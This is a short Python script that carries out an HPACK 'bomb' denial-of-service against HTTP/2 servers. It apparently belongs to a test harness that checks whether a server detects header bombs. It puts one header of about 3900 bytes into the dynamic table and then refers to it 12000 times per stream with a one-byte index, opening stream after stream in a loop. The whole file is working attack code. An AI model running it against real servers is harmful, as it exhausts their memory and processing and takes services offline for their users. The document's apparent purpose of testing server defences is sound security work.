#!/usr/bin/python3
"""HPACK bomb by bytes: one large field put into the dynamic table, then named thousands of times by one byte each."""
from attacker import Peer, REQUEST, h2, headers, main

MARK = ("http2.headers_bombs", "http2.headers_over")
ENDED = True


def attack(run):
    large = b"\x40\x01x" + h2.integer(3900, 7) + b"v" * 3900  # literal with incremental indexing: entry 62
    while run.going():
        peer, stream = Peer(run), 3
        peer.send(headers(1, REQUEST + large))
        while run.going() and peer.send(headers(stream, REQUEST + b"\xbe" * 12000)):
            stream += 2
        peer.wait(2)
        peer.close()


if __name__ == "__main__":
    main(attack)
